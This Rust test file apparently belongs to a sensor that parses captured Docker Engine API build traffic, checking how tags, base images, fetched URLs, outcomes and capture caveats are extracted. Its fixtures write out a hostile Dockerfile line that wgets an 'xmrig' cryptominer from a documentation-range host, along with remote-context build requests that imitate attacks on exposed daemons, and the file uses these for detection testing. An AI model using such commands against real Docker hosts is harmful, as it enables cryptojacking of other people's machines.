use tw_model::{
    AnomalyKind, Caveat, Frontend, ObservationBody, Outcome, Route, Timestamp, Transport,
};
use tw_proto::{BodyEnd, Extent, HttpEventKind, HttpVersion, RequestHead};

use super::{Conn, DAEMON, Driver, tar};

const TAR: &[(&str, &str)] = &[("content-type", "application/x-tar")];
const DOCKERFILE: &str = "FROM alpine:3.18\nRUN wget http://203.0.113.77/xmrig -O /x\n";
const STEPS: &str = "{\"stream\":\"Step 1/2 : FROM alpine:3.18\"}\r\n\
    {\"stream\":\"\\n\"}\r\n\
    {\"stream\":\"Step 2/2 : RUN wget http://203.0.113.77/xmrig -O /x\"}\r\n";
const BUILT: &str = "{\"aux\":{\"ID\":\"sha256:\
    1111111111111111111111111111111111111111111111111111111111111111\"}}\r\n\
    {\"stream\":\"Successfully built 111111111111\\n\"}\r\n\
    {\"stream\":\"Successfully tagged ubuntu:latest\\n\"}\r\n";

fn upload(driver: &mut Driver, conn: Conn, line: &str) {
    let archive = tar(&[("Dockerfile", DOCKERFILE), ("run.sh", "#!/bin/sh\n")]);
    driver.request(conn, 0, line, TAR, &archive);
}

#[test]
fn upload_and_answer() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    upload(&mut driver, conn, "POST /v1.41/build?t=ubuntu%3Alatest&platform=linux/amd64");
    let build = driver.build();
    assert_eq!(build.outcome, Outcome::Unknown);
    assert!(!build.end_seen && build.caveats.is_empty(), "still open");
    driver.answer(conn, 0, 200, DAEMON, &format!("{STEPS}{BUILT}"));
    driver.close(conn);
    let build = driver.build();
    assert_eq!(build.tags, ["ubuntu:latest"]);
    assert_eq!(build.base_images, ["alpine:3.18"]);
    assert_eq!(build.urls, ["http://203.0.113.77/xmrig"]);
    assert_eq!(build.dockerfile.as_deref(), Some(DOCKERFILE));
    assert_eq!(build.steps.len(), 2);
    assert_eq!((build.frontend, build.transport), (Frontend::Classic, Transport::Rest));
    assert_eq!(build.platform.as_deref(), Some("linux/amd64"));
    assert_eq!(build.api_version.as_deref(), Some("1.41"));
    assert_eq!(build.context.as_ref().map(|context| context.files), Some(2));
    assert_eq!((build.outcome, build.end_seen), (Outcome::Succeeded, true));
    assert_eq!(build.image_id.as_deref().map(str::len), Some(71));
    assert!(build.caveats.is_empty(), "{:?}", build.caveats);
    let call = &driver.calls()[0];
    assert_eq!((call.route, call.status, call.complete), (Route::Build, Some(200), true));
    let first = driver.seen[0].evidence[0];
    assert_eq!(first.timestamp.as_nanos(), 1_000_000, "the frame of the request comes first");
}

#[test]
fn cut_anywhere_the_last_word_is_the_same() {
    let archive = tar(&[("Dockerfile", DOCKERFILE)]);
    let answer = format!("{STEPS}{BUILT}");
    let run = |piece: usize| {
        let mut driver = Driver::new();
        let conn = Conn::docker(1);
        driver.request_head(conn, 0, "POST /build?t=a", TAR);
        for part in archive.chunks(piece) {
            driver.event(conn, 0, HttpEventKind::RequestBody(part));
        }
        driver.event(conn, 0, HttpEventKind::RequestEnd(BodyEnd::Complete));
        driver.answer_head(conn, 0, 200, DAEMON);
        for part in answer.as_bytes().chunks(piece) {
            driver.event(conn, 0, HttpEventKind::ResponseBody(part));
        }
        driver.event(conn, 0, HttpEventKind::ResponseEnd(BodyEnd::Complete));
        let mut build = driver.build();
        build.ended = build.started;
        build
    };
    let whole = run(usize::MAX);
    for piece in [1, 7, 100, 511, 512, 513] {
        assert_eq!(run(piece), whole, "{piece}");
    }
}

#[test]
fn every_spelling_builds_and_unclean_ones_do_not() {
    for (line, frontend, built) in [
        ("POST /build?t=a", Frontend::Classic, true),
        ("POST /v1.24/build?t=a", Frontend::Classic, true),
        ("POST /v1.41/%62uild?t=a", Frontend::Classic, true),
        ("POST http://10.10.1.5:2375/v1.41/build?t=a", Frontend::Classic, true),
        ("POST /v4.0.0/libpod/build?t=a", Frontend::Libpod, true),
        ("POST //v1.41//build?t=a", Frontend::Classic, false),
        ("POST /x/../build?t=a", Frontend::Classic, false),
    ] {
        let mut driver = Driver::new();
        let conn = Conn::docker(1);
        upload(&mut driver, conn, line);
        let (status, fields) = if built { (200, DAEMON) } else { (301, &[][..]) };
        driver.answer(conn, 0, status, fields, "");
        driver.close(conn);
        assert_eq!(driver.builds().len(), usize::from(built), "{line}");
        assert_eq!(driver.calls().len(), 1, "{line}");
        if built {
            assert_eq!(driver.build().frontend, frontend, "{line}");
            assert_eq!(driver.build().tags, ["a"]);
        }
    }
}

#[test]
fn lower_case_method_is_no_call() {
    let mut driver = Driver::new();
    upload(&mut driver, Conn::docker(1), "post /build?t=a");
    driver.answer(Conn::docker(1), 0, 404, &[], "");
    assert!(driver.builds().is_empty() && driver.calls().is_empty());
    assert_eq!(driver.exchanges().len(), 1);
}

#[test]
fn only_the_request_was_captured() {
    for conn in [Conn::docker(1), Conn::web(2)] {
        let mut driver = Driver::new();
        upload(&mut driver, conn, "POST /build?t=a");
        driver.close(conn);
        let build = driver.build();
        assert_eq!(build.base_images, ["alpine:3.18"]);
        assert_eq!(build.steps.len(), 2, "the Dockerfile's instructions");
        assert_eq!(build.outcome, Outcome::Unknown);
        assert_eq!(build.caveats, [Caveat::OneDirection, Caveat::EndUnseen]);
        let closed = Timestamp::from_nanos(i64::try_from(driver.frame).unwrap() * 1_000_000);
        assert_eq!(build.ended, closed, "the last that was seen of it");
    }
}

#[test]
fn only_the_answer_was_captured() {
    for (midstream, caveat) in [(false, Caveat::OneDirection), (true, Caveat::Midstream)] {
        let mut driver = Driver::new();
        let mut conn = Conn::docker(1);
        conn.0.midstream = midstream;
        driver.answer(conn, 0, 200, DAEMON, &format!("{STEPS}{BUILT}"));
        driver.finish();
        let build = driver.build();
        assert_eq!(build.base_images, ["alpine:3.18"]);
        assert_eq!(build.tags, ["ubuntu:latest"]);
        assert_eq!(build.urls, ["http://203.0.113.77/xmrig"]);
        assert_eq!((build.outcome, build.end_seen), (Outcome::Succeeded, true));
        assert_eq!(build.caveats, [caveat]);
        assert_eq!(build.client.to_string(), "198.51.100.23");
        let call = &driver.calls()[0];
        assert_eq!((call.route, call.method.as_str()), (Route::Build, ""));
    }
}

#[test]
fn answer_alone_without_steps_is_no_build() {
    let mut driver = Driver::new();
    driver.answer(Conn::docker(1), 0, 200, DAEMON, "{\"Containers\":3}");
    driver.finish();
    assert!(driver.builds().is_empty() && driver.creations().is_empty());
    assert_eq!(driver.calls()[0].route, Route::Other);
}

#[test]
fn client_goes_away() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    upload(&mut driver, conn, "POST /build?t=a");
    driver.answer_head(conn, 0, 200, DAEMON);
    driver.answer_body(conn, 0, STEPS);
    driver.event(conn, 0, HttpEventKind::ResponseEnd(BodyEnd::Cut));
    assert!(!driver.build().end_seen);
    driver.close(conn);
    let build = driver.build();
    assert_eq!((build.outcome, build.end_seen), (Outcome::Canceled, true));
    assert!(build.caveats.is_empty(), "{:?}", build.caveats);
}

#[test]
fn end_of_input_is_no_cancel() {
    let forget = |driver: &mut Driver| {
        let at = driver.at();
        let seen = &mut driver.seen;
        driver.api.forget(Conn::docker(1).0.flow, at, &mut |observation| seen.push(observation));
    };
    for give_up in [Driver::finish as fn(&mut Driver), forget] {
        let mut driver = Driver::new();
        upload(&mut driver, Conn::docker(1), "POST /build?t=a");
        driver.answer_head(Conn::docker(1), 0, 200, DAEMON);
        driver.answer_body(Conn::docker(1), 0, STEPS);
        give_up(&mut driver);
        let build = driver.build();
        assert_eq!((build.outcome, build.end_seen), (Outcome::Unknown, false));
        assert_eq!(build.caveats, [Caveat::EndUnseen]);
    }
}

#[test]
fn failures() {
    let error = "{\"errorDetail\":{\"code\":1,\"message\":\"failed\"},\"error\":\"failed\"}\r\n";
    let answers = [(200, format!("{STEPS}{error}")), (400, String::new()), (500, String::new())];
    for (status, body) in answers {
        let mut driver = Driver::new();
        let conn = Conn::docker(1);
        upload(&mut driver, conn, "POST /build?t=a");
        driver.answer(conn, 0, status, DAEMON, &body);
        driver.close(conn);
        let build = driver.build();
        assert_eq!((build.outcome, build.end_seen), (Outcome::Failed, true), "{status}");
    }
}

#[test]
fn remote_context_is_named_and_its_dockerfile_read_when_it_passes() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    let line = "POST /v1.41/build?remote=http://203.0.113.101/Dockerfile.x&t=a";
    driver.request(conn, 0, line, &[], b"");
    let build = driver.build();
    assert_eq!(build.remote.as_deref(), Some("http://203.0.113.101/Dockerfile.x"));
    assert_eq!(build.urls, ["http://203.0.113.101/Dockerfile.x"]);
    assert!(build.dockerfile.is_none());

    let stranger = Conn::new(8, "10.10.9.9:50000", "203.0.113.101:80");
    fetch(&mut driver, stranger, "203.0.113.101", "FROM evil\n", 200);
    assert!(driver.build().dockerfile.is_none(), "not the daemon's host");

    let daemon = Conn::new(9, "10.10.1.5:50000", "203.0.113.101:80");
    fetch(&mut driver, daemon, "203.0.113.101", DOCKERFILE, 200);
    let build = driver.build();
    assert_eq!(build.dockerfile.as_deref(), Some(DOCKERFILE));
    assert_eq!(build.context, None);
    assert_eq!(build.base_images, ["alpine:3.18"]);
    assert_eq!(build.urls, ["http://203.0.113.101/Dockerfile.x", "http://203.0.113.77/xmrig"]);
    driver.answer(conn, 0, 200, DAEMON, BUILT);
    assert_eq!(driver.build().outcome, Outcome::Succeeded);
    assert_eq!(driver.build().dockerfile.as_deref(), Some(DOCKERFILE));
}

fn fetch(driver: &mut Driver, conn: Conn, host: &str, body: &str, status: u16) {
    let head = RequestHead {
        method: "GET".into(),
        target: "/Dockerfile.x".into(),
        version: HttpVersion::Http11,
        authority: Some(host.into()),
        headers: Vec::new(),
        extent: Extent::Whole,
    };
    driver.event(conn, 0, HttpEventKind::RequestHead(&head));
    driver.event(conn, 0, HttpEventKind::RequestEnd(BodyEnd::Complete));
    driver.answer(conn, 0, status, &[("location", "http://other.test:80/Dockerfile.x")], body);
}

#[test]
fn remote_context_follows_a_redirect() {
    let mut driver = Driver::new();
    driver.request(Conn::docker(1), 0, "POST /build?remote=http://h.test/Dockerfile.x", &[], b"");
    let first = Conn::new(8, "10.10.1.5:50000", "203.0.113.101:80");
    fetch(&mut driver, first, "H.test", "moved", 302);
    assert!(driver.build().dockerfile.is_none());
    let second = Conn::new(9, "10.10.1.5:50001", "203.0.113.9:80");
    fetch(&mut driver, second, "other.test", DOCKERFILE, 200);
    assert_eq!(driver.build().base_images, ["alpine:3.18"]);
}

#[test]
fn form_body_stands_in_for_the_query() {
    let mut driver = Driver::new();
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let body = b"t=evil:1&remote=http%3A%2F%2F203.0.113.9%2FD";
    driver.request(Conn::docker(1), 0, "POST /build?t=query", &form, body);
    let build = driver.build();
    assert_eq!(build.tags, ["query"]);
    assert_eq!(build.remote.as_deref(), Some("http://203.0.113.9/D"));
}

#[test]
fn buildkit_by_session() {
    let mut driver = Driver::new();
    let fields = [("x-docker-expose-session-uuid", "abc123"), ("upgrade", "h2c")];
    driver.request(Conn::docker(2), 0, "POST /session", &fields, b"");
    let line = "POST /v1.41/build?version=2&remote=client-session&session=abc123&t=a";
    driver.request(Conn::docker(1), 0, line, TAR, b"");
    let build = driver.build();
    let flows: Vec<u64> = build.calls.iter().map(|call| call.flow.0).collect();
    assert_eq!(flows, [1, 2], "the trigger first, then its session");
    assert_eq!((build.frontend, build.transport), (Frontend::Buildkit, Transport::RestSession));
    assert_eq!(build.remote, None);
    assert!(build.urls.is_empty());
    driver.request(Conn::docker(3), 0, "POST /grpc", &[("upgrade", "h2c")], b"");
    let routes: Vec<Route> = driver.calls().iter().map(|call| call.route).collect();
    assert_eq!(routes, [Route::Session, Route::Build, Route::Grpc]);
}

#[test]
fn loss_in_the_upload_is_said() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    let archive = tar(&[("a", "x"), ("Dockerfile", DOCKERFILE)]);
    driver.request_head(conn, 0, "POST /build?t=a", TAR);
    driver.event(conn, 0, HttpEventKind::RequestBody(&archive[..700]));
    driver.event(conn, 0, HttpEventKind::RequestGap(400));
    driver.event(conn, 0, HttpEventKind::RequestBody(&archive[1100..]));
    driver.event(conn, 0, HttpEventKind::RequestEnd(BodyEnd::Complete));
    driver.answer(conn, 0, 200, DAEMON, &format!("{STEPS}{BUILT}"));
    let build = driver.build();
    assert!(build.caveats.contains(&Caveat::Gaps), "{:?}", build.caveats);
    assert_eq!(build.base_images, ["alpine:3.18"], "from the answer");
}

#[test]
fn hostile_context_is_an_anomaly_not_an_end() {
    let mut driver = Driver::new();
    let body = [0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5, 6, 0xff, 0xff];
    driver.request(Conn::docker(1), 0, "POST /build?t=a", TAR, &body);
    let odd = driver.seen.iter().any(|observation| {
        let ObservationBody::Anomaly(anomaly) = &observation.body else { return false };
        anomaly.kind == AnomalyKind::ContextMalformed
    });
    assert!(odd);
    assert_eq!(driver.build().tags, ["a"]);
    assert_eq!(driver.api.counters().contexts_malformed, 1);
}

#[test]
fn ids_are_stable_and_differ() {
    let ids = |ports: [u64; 2]| {
        let mut driver = Driver::new();
        for port in ports {
            upload(&mut driver, Conn::docker(port), "POST /build?t=a");
        }
        driver.builds().into_iter().map(|build| build.id).collect::<Vec<_>>()
    };
    assert_eq!(ids([1, 2]), ids([1, 2]));
    assert_ne!(ids([1, 2])[0], ids([1, 2])[1]);
}
